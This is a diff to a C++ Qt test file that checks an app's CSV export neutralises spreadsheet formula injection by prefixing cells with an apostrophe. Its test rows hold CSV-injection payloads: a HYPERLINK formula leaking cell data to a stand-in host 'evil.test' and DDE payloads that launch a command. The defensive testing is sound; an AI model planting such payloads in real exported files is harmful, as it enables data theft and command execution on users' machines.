@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-// What a hostile bundle or note cannot do through an export: slip control
-// characters into the files a researcher opens.
+// What a hostile bundle or note cannot do through an export: run formulas in
+// a spreadsheet or slip control characters into the files a researcher opens.
 #include "exportwriters.h"
 
 #include <QTest>
@@ -40,6 +40,43 @@ ExportSet hostileSet(const QString &text, const QString &url = u"https://example
     return set;
 }
 
+QList<QStringList> parseCsv(const QByteArray &bytes)
+{
+    // RFC 4180 as a spreadsheet program reads it.
+    QList<QStringList> rows;
+    QStringList row;
+    QString field;
+    const QString text = QString::fromUtf8(bytes);
+    bool quoted = false;
+    for (qsizetype i = 0; i < text.size(); ++i) {
+        const QChar c = text.at(i);
+        if (quoted) {
+            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
+                field += u'"';
+                ++i;
+            } else if (c == u'"') {
+                quoted = false;
+            } else {
+                field += c;
+            }
+        } else if (c == u'"') {
+            quoted = true;
+        } else if (c == u',') {
+            row.append(field);
+            field.clear();
+        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
+            row.append(field);
+            rows.append(row);
+            row.clear();
+            field.clear();
+            ++i;
+        } else {
+            field += c;
+        }
+    }
+    return rows;
+}
+
 /// The C0 controls (other than tab, line feed and carriage return), DEL and C1 controls in @p text.
 QString strayControls(const QString &text)
 {
@@ -59,9 +96,45 @@ class ExportEscapingTest final : public QObject
     Q_OBJECT
 
 private Q_SLOTS:
+    void csvNeutralisesFormulas_data();
+    void csvNeutralisesFormulas();
     void controlCharactersAreReplaced_data();
     void controlCharactersAreReplaced();
 };
+
+void ExportEscapingTest::csvNeutralisesFormulas_data()
+{
+    QTest::addColumn<QString>("text");
+    QTest::newRow("equals") << u"=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")"_s;
+    QTest::newRow("dde") << u"=cmd|' /C calc'!A0"_s;
+    QTest::newRow("plus") << u"+1+cmd|' /C calc'!A0"_s;
+    QTest::newRow("minus") << u"-2+3+cmd|' /C calc'!A0"_s;
+    QTest::newRow("at") << u"@SUM(1+9)*cmd|' /C calc'!A0"_s;
+    QTest::newRow("tab") << u"\t=1+1"_s;
+    QTest::newRow("carriage return") << u"\r=1+1"_s;
+}
+
+void ExportEscapingTest::csvNeutralisesFormulas()
+{
+    QFETCH(QString, text);
+    const QList<QStringList> rows = parseCsv(csvExport(hostileSet(text, text), {}));
+    QCOMPARE(rows.size(), 2);
+    const QStringList &row = rows.at(1);
+    // Every cell of text from the bundle or the store starts with an
+    // apostrophe, so a spreadsheet program shows it instead of running it.
+    for (const int column : {0, 1, 2, 5, 6, 7, 8, 10})
+        QCOMPARE(row.at(column), u'\'' + text);
+    // The numbers Lectern writes itself are left as numbers.
+    QCOMPARE(row.at(3), u"3"_s);
+    QCOMPARE(row.at(4), u"10"_s);
+
+    // For tools that want the values exactly, the cells can be left raw.
+    ExportOptions raw;
+    raw.csvRawCells = true;
+    const QStringList rawRow = parseCsv(csvExport(hostileSet(text, text), raw)).value(1);
+    for (const int column : {0, 1, 2, 5, 6, 7, 8, 10})
+        QCOMPARE(rawRow.at(column), text);
+}
 
 void ExportEscapingTest::controlCharactersAreReplaced_data()
 {
